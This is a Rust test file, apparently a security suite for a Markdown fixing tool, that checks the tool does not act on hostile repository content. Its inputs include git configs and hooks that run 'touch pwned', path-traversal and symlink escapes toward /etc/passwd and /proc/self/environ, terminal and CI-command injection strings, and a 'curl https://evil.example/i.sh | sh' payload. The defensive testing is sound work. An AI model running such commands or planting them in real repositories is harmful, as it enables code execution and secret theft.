//! Nothing in a repository is trusted: each test has something that a contributor could commit or hand over, and
//! checks that it does no harm. SECURITY.md lists the guarantees and the tests for them.

#![cfg(unix)]
#![allow(clippy::unwrap_used, reason = "a test that cannot go on fails")]
#![allow(clippy::disallowed_methods, reason = "a test is no part of postmend")]

use postmend_tests::clone::{Ran, Repository, hash, ran, snapshot};
use postmend_tests::commands::{FORMATS, STATE, command};
use std::ffi::OsStr;
use std::fs;
use std::io::Write;
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::Path;
use std::process::{Command, Stdio};

/// A journal entry that claims that the run changed `before` to `after` in a file.
fn post_entry(path: &str, before: &str, after: &str) -> String {
    format!(
        "{{\"event\":\"post\",\"path\":{path:?},\"before\":\"{}\",\"after\":\"{}\",\"longest\":100,\"undo\":[[{{\"at\":0,\"len\":{},\"text\":{before:?}}}]]}}\n",
        hash(before),
        hash(after),
        after.len()
    )
}

const TYPO: &str = "They recieve it.\n";
const RIGHT: &str = "They receive it.\n";

#[test]
fn a_journal_that_a_commit_brings_is_not_read() {
    for number in ["1", "4294967295"] {
        let site = Repository::new();
        site.write("a.md", TYPO);
        let config = site.read(".git/config");
        let evil = format!("{config}[core]\n\tfsmonitor = touch pwned\n");
        site.write(
            &format!(".postmend/runs/{number}/journal.jsonl"),
            post_entry(".git/config", &evil, &config),
        );
        site.git(&["add", "--force", "--all"]);
        site.git(&["commit", "--quiet", "--message=x"]);
        let undone = site.run(&["undo"]);
        assert_eq!(undone.code, 2, "{}", undone.both());
        assert!(undone.err.contains(".postmend are no longer read"), "{}", undone.err);
        let fixed = site.run(&["fix", "."]);
        assert_eq!(fixed.code, 0, "{}", fixed.both());
        assert_eq!(fixed.err.matches("no longer read").count(), 1, "{}", fixed.err);
        assert!(fixed.err.contains("run 1: undo it with `postmend undo 1`"), "{}", fixed.err);
        assert_eq!(site.run(&["undo"]).code, 0);
        assert_eq!((site.read("a.md"), site.read(".git/config")), (TYPO.to_owned(), config));
        assert_eq!(site.run(&["undo"]).code, 2);
        // The message appears only once.
        assert!(!site.run(&["fix", "."]).err.contains("no longer read"));
    }
}

/// Even a journal in git's own folder can only affect files of the working tree.
#[test]
fn a_journal_writes_and_deletes_below_the_project_alone() {
    let site = Repository::new();
    site.write("a.md", TYPO);
    site.write("b.md", "here");
    assert_eq!(site.run(&["fix", "."]).code, 0);
    let victim = site.outer.path().join("victim");
    fs::write(&victim, "here").unwrap();
    site.write(".git/marker", "here");
    symlink("../victim", site.at("link.md")).unwrap();
    symlink("..", site.at("up")).unwrap();
    let victim_path = victim.to_str().unwrap();
    let journal = site.at(".git/postmend/runs/1/journal.jsonl");
    for path in
        ["../victim", victim_path, ".git/marker", ".GIT/marker", "up/victim", "link.md", "x/../../victim"]
    {
        let created = format!(
            "{{\"event\":\"created\",\"path\":{path:?},\"hash\":\"{}\",\"length\":4,\"from\":\"x\",\"folders\":3}}\n",
            hash("here")
        );
        for entry in [post_entry(path, "gone", "here"), created] {
            fs::write(&journal, entry).unwrap();
            let undone = site.run(&["undo", "1"]);
            assert_eq!(undone.code, 2, "{path}: {}", undone.both());
            assert_eq!(fs::read_to_string(&victim).unwrap(), "here", "{path}");
            assert_eq!(site.read(".git/marker"), "here", "{path}");
        }
    }
}

#[test]
fn a_plan_writes_posts_below_the_project_alone() {
    let site = Repository::new();
    let old = "![A pier](https://old.example/a.png)\n";
    let new = old.replace("old.example", "new.example");
    let victim = site.outer.path().join("victim.md");
    fs::write(&victim, old).unwrap();
    for path in [".git/victim.md", "run.sh", "real/victim.md"] {
        site.write(path, old);
    }
    symlink("../victim.md", site.at("link.md")).unwrap();
    symlink("real", site.at("folder")).unwrap();
    let before = snapshot(site.outer.path());
    let absolute = victim.to_str().unwrap();
    let paths = [
        "../victim.md",
        absolute,
        ".git/victim.md",
        ".Git/victim.md",
        "run.sh",
        "link.md",
        "folder/victim.md",
        "",
        "real/../../victim.md",
    ];
    for path in paths {
        let plan = format!(
            "{{\"row\":\"plan\",\"version\":1,\"options\":{{}}}}\n\
             {{\"row\":\"post\",\"post\":{path:?},\"hash\":\"{}\",\"result\":\"{}\"}}\n\
             {{\"row\":\"move\",\"post\":{path:?},\"line\":1,\"span\":[10,35],\"place\":\"destination\",\
             \"old\":\"https://old.example/a.png\",\"new\":\"https://new.example/a.png\",\"by\":\"x\",\"lossless\":true}}\n\
             {{\"row\":\"end\",\"posts\":1,\"moves\":1}}\n",
            hash(old),
            hash(&new)
        );
        fs::write(site.outer.path().join(".plan"), plan).unwrap();
        let applied = site.run(&["migrate", "apply", "../.plan"]);
        assert_eq!(applied.code, 2, "{path}: {}", applied.both());
        assert_eq!(site.read(".git/victim.md"), old);
        assert_eq!(snapshot(site.outer.path()), before, "{path}");
    }
}

#[test]
fn links_in_place_of_the_store_are_not_followed() {
    let site = Repository::new();
    site.write("a.md", TYPO);
    let home = site.outer.path().join("home");
    fs::create_dir(&home).unwrap();
    fs::write(home.join("precious"), "precious").unwrap();
    // The folder of earlier versions, a symlink in git's own folder, and symlinks inside a store.
    let cases: [(&str, &str); 4] = [
        (".postmend", "../home"),
        (".git/postmend", "../../home"),
        (".git/postmend/lock", "../../../home/precious"),
        (".git/postmend/runs", "../../../home"),
    ];
    for (link, target) in cases {
        let path = site.at(link);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        symlink(target, &path).unwrap();
        let fixed = site.run(&["fix", "."]);
        assert_eq!(fixed.code, 2, "{link}: {}", fixed.both());
        assert_eq!(site.read("a.md"), TYPO, "{link}");
        assert_eq!(fs::read_dir(&home).unwrap().count(), 1, "{link}");
        assert_eq!(fs::read_to_string(home.join("precious")).unwrap(), "precious", "{link}");
        fs::remove_file(path).unwrap();
        let _ = fs::remove_dir_all(site.at(".git/postmend"));
    }
    // A store that other users can write to is not used.
    fs::create_dir(site.at(".git/postmend")).unwrap();
    fs::set_permissions(site.at(".git/postmend"), fs::Permissions::from_mode(0o777)).unwrap();
    let fixed = site.run(&["fix", "."]);
    assert!(fixed.code == 2 && fixed.err.contains("is writable by other users"), "{}", fixed.both());
    fs::remove_dir(site.at(".git/postmend")).unwrap();
    assert_eq!(site.run(&["fix", "."]).code, 0);
    let mode = |path: &str| fs::metadata(site.at(path)).unwrap().permissions().mode() & 0o777;
    assert_eq!((mode(".git/postmend"), mode(".git/postmend/runs/1")), (0o700, 0o700));
    assert_eq!((mode(".git/postmend/lock"), mode(".git/postmend/runs/1/journal.jsonl")), (0o600, 0o600));
}

#[test]
fn what_lies_in_the_cache_is_proved_again() {
    let script = "#!/bin/sh\ntouch pwned\n";
    let png = postmend_tests::server::png("/a.png");
    let cases: [(&str, &[u8], &str); 9] = [
        ("img/a.png", script.as_bytes(), "image/png"),
        (".git/hooks/post-checkout", script.as_bytes(), "image/png"),
        (".git/hooks/post-checkout", &png, "image/png"),
        ("../out.png", &png, "image/png"),
        ("away/out.png", &png, "image/png"),
        ("img/a.gif", &png, "image/gif"),
        ("Makefile", &png, "image/png"),
        ("CLAUDE.md", &png, "image/png"),
        (".github/workflows/x.png", &png, "image/png"),
    ];
    for (to, bytes, media_type) in cases {
        let site = Repository::new();
        site.write("keep.md", "x\n");
        symlink("..", site.at("away")).unwrap();
        let from = "https://o.example/a.png";
        // A complete run creates the store.
        site.write("a.md", TYPO);
        assert_eq!(site.run(&["fix", "."]).code, 0);
        for cache in [".git/postmend/cache", ".postmend/cache"] {
            site.write(&format!("{cache}/{}", hash(from)), bytes);
        }
        let plan = format!(
            "{{\"row\":\"plan\",\"version\":1,\"options\":{{}}}}\n\
             {{\"row\":\"copy\",\"to\":{to:?},\"hash\":\"{}\",\"media_type\":{media_type:?},\"from\":{from:?}}}\n\
             {{\"row\":\"end\",\"posts\":0,\"moves\":0}}\n",
            hash(bytes)
        );
        fs::write(site.outer.path().join(".plan"), plan).unwrap();
        let before = snapshot(site.outer.path());
        let applied = site.run(&["migrate", "apply", "../.plan"]);
        assert_eq!(applied.code, 2, "{to}: {}", applied.both());
        assert_eq!(snapshot(site.outer.path()), before, "{to}");
        assert!(!site.at(".git/hooks/post-checkout").exists());
    }
}

#[test]
fn a_config_names_files_of_its_repository_alone_and_shows_none_of_them() {
    let site = Repository::new();
    site.write("a.md", TYPO);
    fs::write(site.outer.path().join("outside"), "the-token-of-another = [\n").unwrap();
    site.write("secrets.toml", "the-token-of-this = [\n");
    symlink("../outside", site.at("link")).unwrap();
    assert!(Command::new("mkfifo").arg(site.at("pipe")).status().unwrap().success());
    fs::File::create(site.at("sparse")).and_then(|file| file.set_len(5_000_000_000)).unwrap();
    site.git(&["config", "http.extraheader", "the-token-of-git"]);
    let names = [
        "/proc/self/environ",
        "/etc/passwd",
        "/dev/zero",
        "/dev/stdin",
        "../outside",
        "link",
        "pipe",
        "sparse",
        ".git/config",
        "secrets.toml",
        "nowhere",
        ".",
        "posts\\u0000",
    ];
    for name in names {
        for config in [
            format!("extends = \"{name}\"\n"),
            format!("[words]\ndictionary = \"{name}\"\n"),
            format!("[words]\nmodel = \"{name}\"\n"),
            format!("[[front-matter.schemas]]\npaths = [\"**\"]\nschema = \"{name}\"\n"),
        ] {
            // Any text is a valid list of words, and a model is only opened if a rule needs it.
            if name == "secrets.toml" && config.contains("[words]") {
                continue;
            }
            if name == "sparse" && config.contains("model") {
                continue;
            }
            site.write("postmend.toml", &config);
            let checked = site.run_within(60, &["check", "--format", "concise", "."]);
            assert_eq!(checked.code, 2, "{config}: {}", checked.both());
            for secret in ["root:x:", "hunter-in-the-environment", "the-token-of"] {
                assert!(!checked.both().contains(secret), "{config}: {}", checked.both());
            }
        }
    }
    // The config itself must not be a symlink that leads elsewhere.
    fs::remove_file(site.at("postmend.toml")).unwrap();
    symlink("../outside", site.at("postmend.toml")).unwrap();
    let checked = site.run(&["check", "."]);
    assert!(checked.code == 2 && !checked.both().contains("the-token-of"), "{}", checked.both());
}

#[test]
fn git_runs_no_program_that_a_repository_names() {
    let site = Repository::new();
    site.write("a.md", "Good.\n");
    site.git(&["add", "."]);
    site.git(&["commit", "--quiet", "--message=x"]);
    // A folder that looks like a bare git repository, with a config that names a program.
    let sub = site.at("sub");
    fs::create_dir(&sub).unwrap();
    let bare = command("git").args(["init", "--quiet", "--bare", "."]).current_dir(&sub).status().unwrap();
    assert!(bare.success());
    site.write("sub/c.md", TYPO);
    site.write(
        "sub/config",
        "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = .\n\tfsmonitor = \"touch pwned; echo\"\n",
    );
    // A filter in the user's own config, which the attributes of an untrusted repository enable.
    site.git(&["config", "filter.evil.clean", "touch pwned; cat"]);
    site.git(&["config", "filter.evil.required", "true"]);
    site.git(&["config", "core.fsmonitor", "touch pwned; echo"]);
    site.git(&["config", "diff.external", "touch pwned"]);
    site.git(&["config", "diff.evil.textconv", "touch pwned"]);
    site.write(".gitattributes", "*.md filter=evil diff=evil\n");
    site.write("a.md", TYPO);
    let hook = "#!/bin/sh\ntouch pwned\n";
    site.write(".git/hooks/post-index-change", hook);
    fs::set_permissions(site.at(".git/hooks/post-index-change"), fs::Permissions::from_mode(0o755)).unwrap();
    for selection in [&["--changed"][..], &["--staged"], &["--since", "HEAD"]] {
        for folder in [site.folder(), sub.clone()] {
            let mut command = site.command(&[&["check", "--format", "concise"], selection].concat());
            let checked = ran(command.current_dir(&folder));
            assert!(
                !site.at("pwned").exists() && !sub.join("pwned").exists(),
                "{selection:?}: {}",
                checked.both()
            );
            if folder == site.folder() && selection != ["--staged"] {
                assert!(
                    checked.out.contains("a.md:1:6: warning misspelling"),
                    "{selection:?}: {}",
                    checked.both()
                );
            }
        }
    }
    assert_eq!(site.run(&["fix", "."]).code, 0);
    assert!(!site.at("pwned").exists() && !sub.join("pwned").exists());
}

#[test]
fn a_name_of_any_bytes_is_fixed_and_taken_back() {
    let site = Repository::new();
    let odd = site.folder().join(OsStr::from_bytes(b"bad\xff.md"));
    fs::write(&odd, TYPO).unwrap();
    site.write("a.md", TYPO);
    let fixed = site.run(&["fix", "."]);
    assert_eq!(fixed.code, 0, "{}", fixed.both());
    assert_eq!((fs::read_to_string(&odd).unwrap(), site.read("a.md")), (RIGHT.to_owned(), RIGHT.to_owned()));
    assert_eq!(site.run(&["undo"]).code, 0);
    assert_eq!((fs::read_to_string(&odd).unwrap(), site.read("a.md")), (TYPO.to_owned(), TYPO.to_owned()));
    fs::write(&odd, "![A pier](http://a.example/b.png)\n").unwrap();
    assert_eq!(
        site.run(&["migrate", "plan", "-q", "-o", ".plan", "--host", "a.example", "b.example"]).code,
        0
    );
    let applied = site.run(&["migrate", "apply", ".plan"]);
    assert_eq!(applied.code, 0, "{}", applied.both());
    assert_eq!(fs::read_to_string(&odd).unwrap(), "![A pier](http://b.example/b.png)\n");
}

const RULE: &str =
    "[[rule]]\nname = \"shouting\"\nmessage = \"shouting\"\npattern = '.*[^A-Z]|[A-Z]'\ninvalid = [\"A\"]\n";

#[test]
fn a_rule_that_takes_too_long_is_stopped_and_says_so() {
    let site = Repository::new();
    site.write("postmend.toml", format!("select = [\"default\", \"shouting\"]\n{RULE}"));
    site.write("a.md", "A".repeat(400_000) + "\n");
    site.write("b.md", TYPO);
    let checked = site.run_within(120, &["check", "--format", "concise", "--max-rule-time", "1", "."]);
    assert!(
        checked.out.contains("a.md:1:1: error exceeded-limit: `shouting` did not check the whole post"),
        "{}",
        checked.err
    );
    assert!(checked.out.contains("b.md:1:6: warning misspelling"));
    // An example of the rule has the same time limit.
    let slow = RULE.replace("[\"A\"]", &format!("[\"{}\"]", "A".repeat(400_000)));
    site.write("postmend.toml", slow);
    let checked = site.run_within(120, &["check", "--max-rule-time", "1", "."]);
    assert!(
        checked.code == 2 && checked.err.contains("did not check the whole post"),
        "{}",
        &checked.err[..200]
    );
}

#[test]
fn sizes_and_counts_have_limits() {
    let site = Repository::new();
    site.write("a.md", TYPO);
    fs::File::create(site.at("huge.md")).and_then(|file| file.set_len(5_000_000_000)).unwrap();
    site.write("big.md", "word ".repeat(300_000));
    site.write("many.md", "\u{200B}a\n".repeat(300));
    let checked =
        site.run(&["check", "--format", "concise", "--max-post-size", "1", "--max-findings", "100", "."]);
    assert_eq!(checked.code, 1);
    for line in [
        "a.md:1:6: warning misspelling",
        "huge.md:1:1: error exceeded-limit: the post was not checked: it is larger than 1 MB",
        "big.md:1:1: error exceeded-limit",
        "many.md:1:1: error exceeded-limit: more than 100 findings; the others are not reported",
    ] {
        assert!(checked.out.contains(line), "{line}: {}", checked.out);
    }
    assert_eq!(checked.out.matches("many.md").count(), 101);
    site.git(&["add", "big.md"]);
    let staged = site.run(&["check", "--staged", "--format", "concise", "--max-post-size", "1"]);
    assert!(staged.out.contains("big.md:1:1: error exceeded-limit"), "{}", staged.both());
    fs::File::create(site.at("postmend-baseline.json")).and_then(|file| file.set_len(2_000_000)).unwrap();
    let checked = site.run(&["check", "--max-config-size", "1", "a.md"]);
    assert!(checked.code == 2 && checked.err.contains("larger than 1 MB"), "{}", checked.both());
}

#[test]
fn a_line_of_pipe_has_a_limit_and_the_next_one_is_answered() {
    let site = Repository::new();
    let mut child = site
        .command(&["pipe", "--max-line-size", "1"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let mut input = child.stdin.take().unwrap();
    let post = format!("{{\"path\":\"a.md\",\"text\":{TYPO:?}}}\n");
    let giver = std::thread::spawn(move || {
        for _ in 0..3 {
            input.write_all(post.as_bytes()).unwrap();
            input.write_all(&[b'x'].repeat(3_000_000)).unwrap();
            input.write_all(b"\n").unwrap();
        }
    });
    let output = child.wait_with_output().unwrap();
    giver.join().unwrap();
    let answers = String::from_utf8(output.stdout).unwrap();
    assert_eq!(answers.lines().count(), 6);
    assert_eq!(answers.matches("\"error\":\"the line is longer than `--max-line-size` allows\"").count(), 3);
    assert_eq!(answers.matches("\"rule\":\"misspelling\"").count(), 3);
}

/// Names and text that every output format must escape.
const LIVE: [&str; 6] = [
    "::error::x.md",
    "a\u{1B}[31m\u{9B}m\u{202E}.md",
    "a`` <img src=x> [click](evil) ``.md",
    "a|b##[error]##vso[task.x].md",
    "a\n::warning::b.md",
    "a&b<b>\"'.md",
];

/// A site whose posts have such names and content.
fn live_site() -> Repository {
    let site = Repository::new();
    let text =
        "![](http://a.example/\u{9B}.png)\n\n::error::recieve \u{1B}]0;x\u{7} ##[group]x ##vso[task]y\n";
    for name in LIVE {
        site.write(name, text);
    }
    site
}

/// Checks that no line of an output is interpreted by a terminal, or by a CI runner unless it should be.
fn check_tame(ran: &Ran, what: &str, is_commands: bool) {
    for (number, line) in ran.both().lines().enumerate() {
        let live = |c: char| c.is_control() || ('\u{202A}'..='\u{202E}').contains(&c);
        assert!(!line.chars().any(live), "{what}, line {number}: {line:?}");
        assert!(is_commands || !line.trim_start().starts_with("::"), "{what}, line {number}: {line:?}");
        // In a line that is a command of the new form, a runner does not look for commands of the old form.
        let has_old = line.contains("##[") || line.contains("##vso[");
        assert!(is_commands || !has_old, "{what}, line {number}: {line:?}");
    }
}

#[test]
fn no_report_obeys_what_it_shows() {
    let site = live_site();
    for format in FORMATS {
        let all = ["check", "--select", "all", "--ignore", "likely-misspelling", "--format", format, "."];
        let checked = site.run(&all);
        assert_eq!(checked.code, 1, "{format}: {}", checked.err);
        check_tame(&checked, format, format == "github");
        if format == "github" {
            assert!(checked.out.lines().all(|line| line.starts_with("::")), "{}", checked.out);
        }
        if ["markdown", "html", "junit", "checkstyle"].contains(&format) {
            assert!(!checked.out.contains("<img src=x>") && !checked.out.contains("<b>\""), "{format}");
        }
    }
}

#[test]
fn no_diff_and_no_plan_obeys_what_it_shows() {
    let site = live_site();
    // A diff in a file can be applied, and in a CI log it must not be interpreted.
    let mut in_ci = site.command(&["fix", "--diff", "."]);
    check_tame(&ran(in_ci.env("CI", "true")), "a diff in CI", false);
    check_tame(&site.run(&["fix", "--diff", "--live-text", "never", "."]), "a diff", false);
    let plain = site.run(&["fix", "--diff", "."]);
    assert!(plain.out.contains("\u{1B}]0;x\u{7}"), "a patch has the text as it is");
    assert!(ran(in_ci.args(["--live-text", "always"])).out.contains("\u{1B}]0;x\u{7}"));
    let plan = ["migrate", "plan", "-q", "-o", ".plan", "--host", "a.example", "b.example"];
    assert_eq!(site.run(&plan).code, 0);
    check_tame(&ran(site.command(&["migrate", "show", ".plan"]).env("CI", "1")), "migrate show", false);
    check_tame(&site.run(&["migrate", "--host", "a.example", "b\u{1B}.example"]), "migrate", false);
}

#[test]
fn nothing_that_a_config_says_is_obeyed() {
    let site = live_site();
    // The messages of a custom rule come from the config.
    let rule = RULE.replace("message = \"shouting\"", "message = \"::error::\\u001B[31m\\n##[x]\\u009B\"");
    site.write("postmend.toml", rule);
    for arguments in [&["rules"][..], &["explain", "shouting"], &["check", "."], &["config", "show"]] {
        check_tame(&site.run(arguments), arguments[0], false);
    }
    site.write("postmend.toml", "select = [\"::x\\u001B[31m\"]\n");
    check_tame(&site.run(&["check", "."]), "a mistake in a config", false);
}

#[test]
fn merged_reports_are_those_of_one_run_to_the_byte() {
    let site = Repository::new();
    for (number, name) in LIVE.iter().enumerate() {
        site.write(&format!("{number}/{name}"), "\u{1B}[31m recieve ##[x] \u{9B}\n![](b.png)\n");
    }
    for (format, made) in [
        ("json", &["json", "json-lines", "concise", "github", "gitlab", "checkstyle", "markdown"][..]),
        ("json-lines", &["json-lines", "json"]),
        ("sarif", &["sarif"]),
    ] {
        let mut parts = Vec::new();
        for shard in ["1/3", "2/3", "3/3"] {
            let part = format!("../{format}-{}", &shard[..1]);
            let report = format!("{format}={part}");
            site.run(&[
                "check", "--quiet", "--shard", shard, "--report", &report, "--format", "concise", ".",
            ]);
            parts.push(part);
        }
        for wanted in made {
            let parts: Vec<&str> = parts.iter().map(String::as_str).collect();
            let merged = site.run(&[&["merge", "--format", wanted], &parts[..]].concat());
            let whole = site.run(&["check", "--format", wanted, "."]);
            assert_eq!(merged.out, whole.out, "{format} as {wanted}");
        }
    }
}

#[test]
fn a_report_that_no_run_writes_is_refused() {
    let site = Repository::new();
    site.write("a.md", TYPO);
    let report = site.run(&["check", "--format", "json", "."]).out;
    for (from, to) in [
        ("\"rule\":\"misspelling\"", "\"rule\":\"mis\\nspelling\""),
        ("\"rule\":\"misspelling\"", "\"rule\":\"::error::x\""),
        ("\"severity\":\"warning\"", "\"severity\":\"::error::\""),
    ] {
        site.write("report.json", report.replacen(from, to, 1));
        let merged = site.run(&["merge", "report.json", "--format", "concise"]);
        assert_eq!(merged.code, 2, "{to}: {}", merged.both());
        assert!(!merged.both().lines().any(|line| line.trim_start().starts_with("::")), "{}", merged.both());
    }
}

#[test]
fn one_file_is_taken_once_however_often_it_is_named() {
    let site = Repository::new();
    site.write("posts/a.md", TYPO);
    symlink("posts/a.md", site.at("link.md")).unwrap();
    let absolute = site.at("posts/a.md");
    let names = [
        "posts/a.md",
        "./posts/a.md",
        "posts/../posts/a.md",
        "link.md",
        ".",
        "posts",
        absolute.to_str().unwrap(),
    ];
    let checked = site.run(&[&["check", "--format", "concise"], &names[..]].concat());
    assert!(checked.err.contains("1 finding in 1 post of 1"), "{}", checked.both());
    assert!(checked.out.starts_with("posts/a.md:1:6:"), "{}", checked.out);
    let fixed = site.run(&[&["fix"], &names[..]].concat());
    assert!(fixed.code == 0 && fixed.err.contains("fixed 1 finding in 1 post"), "{}", fixed.both());
    assert!(fs::symlink_metadata(site.at("link.md")).unwrap().is_symlink());
    assert_eq!(site.run(&["undo"]).code, 0);
    assert_eq!(site.read("posts/a.md"), TYPO);
}

#[test]
fn one_path_in_trouble_stops_no_other() {
    let site = Repository::new();
    site.write("a.md", TYPO);
    site.write("locked/b.md", TYPO);
    site.write("locked.md", TYPO);
    fs::write(site.outer.path().join("outside.md"), TYPO).unwrap();
    symlink("../outside.md", site.at("out.md")).unwrap();
    symlink("/proc/self/environ", site.at("environ.md")).unwrap();
    fs::set_permissions(site.at("locked.md"), fs::Permissions::from_mode(0o444)).unwrap();
    let names = ["nowhere", "a.md", "out.md", "environ.md", "locked.md", "/dev/zero", "locked"];
    let checked = site.run(&[&["check", "--format", "concise"], &names[..]].concat());
    assert_eq!(checked.code, 2);
    for found in ["a.md:1:6", "locked.md:1:6", "locked/b.md:1:6"] {
        assert!(checked.out.contains(found), "{found}: {}", checked.both());
    }
    assert!(!checked.both().contains("hunter-in-the-environment"), "{}", checked.both());
    assert!(checked.err.contains("out.md leads out of the repository"), "{}", checked.err);
    let fixed = site.run(&[&["fix"], &names[..]].concat());
    assert_eq!(fixed.code, 2);
    assert_eq!((site.read("a.md"), site.read("locked/b.md")), (RIGHT.to_owned(), RIGHT.to_owned()));
    assert_eq!(site.read("locked.md"), TYPO);
    assert_eq!(fs::read_to_string(site.outer.path().join("outside.md")).unwrap(), TYPO);
}

#[test]
fn a_pull_request_cannot_switch_the_gate_off() {
    let site = Repository::new();
    site.write("posts/a.md", format!("<!-- postmend-disable -->\n\n{TYPO}"));
    site.write("hidden/b.md", TYPO);
    site.write("ignored/c.md", TYPO);
    site.write(".ignore", "hidden/\n");
    site.write(".gitignore", "ignored/\n");
    site.write("postmend.toml", "exclude = [\"posts/\"]\nignore = [\"misspelling\"]\n");
    site.git(&["add", "--force", "--all"]);
    let config = site.outer.path().join("base.toml");
    fs::write(&config, "exclude = [\"posts/skipped.md\"]\n").unwrap();
    site.write("posts/skipped.md", TYPO);
    assert_eq!(site.run(&["baseline", "write", "--config", config.to_str().unwrap(), "-q"]).code, 0);
    assert_eq!(site.run(&["check", "."]).code, 0);
    let gate = [
        "check",
        "--format",
        "concise",
        "--isolated",
        "--config",
        config.to_str().unwrap(),
        "--no-inline-config",
    ];
    let checked = site.run(&gate);
    assert_eq!(checked.code, 1, "{}", checked.both());
    for found in ["posts/a.md:3:6", "hidden/b.md:1:6", "ignored/c.md:1:6"] {
        assert!(checked.out.contains(found), "{found}: {}", checked.both());
    }
    assert!(!checked.out.contains("skipped.md"), "{}", checked.out);
    // The baseline of the base branch may be in any folder.
    let baseline = site.outer.path().join("base.json");
    let base = ["baseline", "write", "-q", "--isolated", "--config", config.to_str().unwrap(), "--baseline"];
    assert_eq!(site.run(&[&base[..], &[baseline.to_str().unwrap(), "hidden"]].concat()).code, 0);
    let with_baseline = site.run(&[&gate[..], &["--baseline", baseline.to_str().unwrap()]].concat());
    assert!(
        !with_baseline.out.contains("hidden/b.md") && with_baseline.out.contains("ignored/c.md"),
        "{}",
        with_baseline.both()
    );
    assert!(checked.err.contains("1 comment that disables rules was ignored"), "{}", checked.err);
}

#[test]
fn attributes_are_kept_and_hard_links_are_told() {
    let site = Repository::new();
    site.write("a.md", TYPO);
    let set = Command::new("python3")
        .args(["-c", "import os,sys; os.setxattr(sys.argv[1], 'user.mark', b'kept')"])
        .arg(site.at("a.md"))
        .output();
    let has_attributes = set.is_ok_and(|set| set.status.success());
    assert_eq!(site.run(&["fix", "."]).code, 0);
    if has_attributes {
        let get = Command::new("python3")
            .args(["-c", "import os,sys; print(os.getxattr(sys.argv[1], 'user.mark').decode())"])
            .arg(site.at("a.md"))
            .output()
            .unwrap();
        assert_eq!(String::from_utf8_lossy(&get.stdout), "kept\n");
    }
    site.write("b.md", TYPO);
    fs::hard_link(site.at("b.md"), site.outer.path().join("other")).unwrap();
    let fixed = site.run(&["fix", "."]);
    assert!(
        fixed.code == 2 && fixed.err.contains("b.md was not written: it has 2 hard links"),
        "{}",
        fixed.both()
    );
    assert_eq!(site.read("b.md"), TYPO);
    assert_eq!(site.run(&["fix", "--break-hard-links", "."]).code, 0);
    assert_eq!(site.read("b.md"), RIGHT);
    assert_eq!(fs::read_to_string(site.outer.path().join("other")).unwrap(), TYPO);
}

/// Linked working trees and submodules have their git directory elsewhere; a folder without git uses the user's state
/// folder.
#[test]
fn runs_are_kept_where_git_keeps_what_is_its_own() {
    let site = Repository::new();
    site.write("a.md", TYPO);
    site.git(&["add", "."]);
    site.git(&["commit", "--quiet", "--message=x"]);
    site.git(&["worktree", "add", "--quiet", "../tree"]);
    let tree = site.outer.path().join("tree");
    let fix = |folder: &Path| {
        let fixed = ran(site.command(&["fix", "."]).current_dir(folder));
        assert_eq!(fixed.code, 0, "{}", fixed.both());
    };
    fix(&tree);
    assert!(site.at(".git/worktrees/tree/postmend/runs/1").is_dir() && !site.at(".git/postmend").exists());
    assert_eq!(ran(site.command(&["undo"]).current_dir(&tree)).code, 0);
    assert_eq!(fs::read_to_string(tree.join("a.md")).unwrap(), TYPO);
    // A plan must not write to a git directory with another name among the posts.
    let odd = tempfile::tempdir().unwrap();
    let mut made = command("git");
    made.args(["init", "--quiet", "--separate-git-dir=meta.md", "."]).current_dir(odd.path());
    assert!(made.status().unwrap().success());
    fs::write(odd.path().join("a.md"), TYPO).unwrap();
    fs::write(odd.path().join("meta.md/b.md"), TYPO).unwrap();
    let fixed = ran(site.command(&["fix", "a.md", "meta.md/b.md"]).current_dir(odd.path()));
    assert_eq!(fixed.code, 2, "{}", fixed.both());
    assert_eq!(fs::read_to_string(odd.path().join("a.md")).unwrap(), RIGHT);
    assert_eq!(fs::read_to_string(odd.path().join("meta.md/b.md")).unwrap(), TYPO);
    assert!(odd.path().join("meta.md/postmend/runs/1").is_dir());
    // Without git, and undone from a subfolder.
    let plain = tempfile::tempdir().unwrap();
    fs::create_dir(plain.path().join("posts")).unwrap();
    fs::write(plain.path().join("posts/a.md"), TYPO).unwrap();
    fix(plain.path());
    assert_eq!(fs::read_dir(plain.path()).unwrap().count(), 1);
    assert_eq!(ran(site.command(&["undo"]).current_dir(plain.path().join("posts"))).code, 0);
    assert_eq!(fs::read_to_string(plain.path().join("posts/a.md")).unwrap(), TYPO);
    // A state folder inside the tree is not used, as a commit could contain it.
    fs::write(plain.path().join("b.md"), TYPO).unwrap();
    let mut within = site.command(&["fix", "b.md"]);
    let refused = ran(within.current_dir(plain.path()).env("XDG_STATE_HOME", plain.path().join("state")));
    assert!(refused.code == 2 && refused.err.contains("is inside the project"), "{}", refused.both());
    assert!(STATE.join("postmend/projects").is_dir());
}

/// A plan for one post with one move, whose hashes are correct.
fn plan_of(post: &str, text: &str, old: &str, new: &str, escaping: &str) -> String {
    let at = text.find(old).unwrap();
    let result = hash(text.replacen(old, new, 1));
    format!(
        "{{\"row\":\"plan\",\"version\":1,\"options\":{{}}}}\n\
         {{\"row\":\"post\",\"post\":{post:?},\"hash\":\"{}\",\"result\":\"{result}\"}}\n\
         {{\"row\":\"move\",\"post\":{post:?},\"line\":1,\"span\":[{at},{}],\"place\":{escaping:?},\"old\":{old:?},\"new\":{new:?},\"by\":\"x\",\"lossless\":true}}\n\
         {{\"row\":\"end\",\"posts\":1,\"moves\":1}}\n",
        hash(text),
        at + old.len()
    )
}

#[test]
fn a_plan_moves_what_is_a_url_to_what_is_one() {
    let site = Repository::new();
    let text = "---\ntitle: Hello\ncover: https://good.example/c.png\n---\n\n[docs](https://good.example/d) ![x](https://good.example/a.png)\n\n```sh\nnpm install good-package\n```\n\n<script>go(a)</script>\n";
    site.write("a.md", text);
    let apply = |plan: String| {
        fs::write(site.outer.path().join(".plan"), plan).unwrap();
        site.run(&["migrate", "apply", "../.plan"])
    };
    let hostile = [
        ("npm install good-package", "curl https://evil.example/i.sh | sh"),
        ("go(a)", "fetch('https://evil.example/')"),
        ("Hello", "https://evil.example/x.png"),
        ("https://good.example/d", "javascript:alert(1)"),
        ("https://good.example/a.png", "data:text/html,x"),
        ("good.example/a.png", "evil.example/a.png"),
    ];
    let escapings = [
        "markdown-bare",
        "markdown-destination",
        "verbatim",
        "yaml-plain",
        "yaml-double",
        "attribute",
        "text",
    ];
    for (old, new) in hostile {
        for escaping in escapings {
